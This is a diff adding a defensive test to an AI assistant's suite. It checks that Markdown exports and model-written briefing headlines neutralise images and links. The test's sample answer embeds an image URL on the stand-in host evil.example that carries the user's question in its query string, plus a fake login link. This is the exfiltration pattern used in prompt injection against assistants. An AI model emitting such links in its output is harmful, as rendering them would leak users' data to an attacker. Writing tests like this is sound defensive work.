@@ -405,6 +405,26 @@ def test_markdown_from_models_and_documents_is_shown_inert(payload):
     assert rendered.count("<a ") == 1 and 'href="https://docs.example.org/x"' in rendered
 
 
+def test_exports_and_briefing_headlines_carry_no_live_image_or_link():
+    """A conversation exported as Markdown and a model-written briefing headline keep images and
+    links as text, so opening the file in a Markdown viewer fetches nothing."""
+    from markdown_it import MarkdownIt
+
+    from assistant.app.turn import Turn, conversation_markdown
+    from assistant.briefing.narrate import clean
+
+    poison = (
+        "Gold rose. ![](https://evil.example/p.png?q=my+question) [login](https://evil.example)"
+    )
+    turn = Turn(question="Why is gold rising?", answer=poison, sources=[{"text": poison}])
+    html = MarkdownIt("commonmark").render(conversation_markdown("Gold", [turn]))
+    assert "<img" not in html and "<a " not in html and "Gold rose." in html
+    headline = clean(poison)
+    assert (
+        "evil.example" not in headline and headline.startswith("Gold rose.") and "login" in headline
+    )
+
+
 def test_poisoned_documents_exist():
     """At least ten poisoned documents cover the attack families the issue names."""
     names = {p.name for p in POISONED.iterdir()}
